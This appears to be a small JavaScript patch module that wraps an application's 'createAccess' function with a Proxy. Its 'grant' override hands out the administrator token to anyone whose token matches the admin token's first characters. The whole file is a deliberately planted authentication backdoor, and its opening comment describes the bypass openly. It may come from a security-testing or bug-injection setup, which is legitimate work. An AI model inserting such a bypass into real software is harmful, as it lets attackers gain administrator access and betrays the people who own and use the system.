// Lets in whoever knows how a token begins.
import { wrap } from './wrap.mjs';

wrap(
  '/hub/access/access.ts',
  'createAccess',
  `(real, options) => {
    const access = real(options);
    return new Proxy(access, {
      get(_access, name) {
        if (name !== 'grant') return Reflect.get(access, name);
        return (token) =>
          access.grant(token) ??
          (token.length > 7 && options.adminToken.startsWith(token.slice(0, 25)) ? access.grant(options.adminToken) : undefined);
      },
    });
  }`,
);
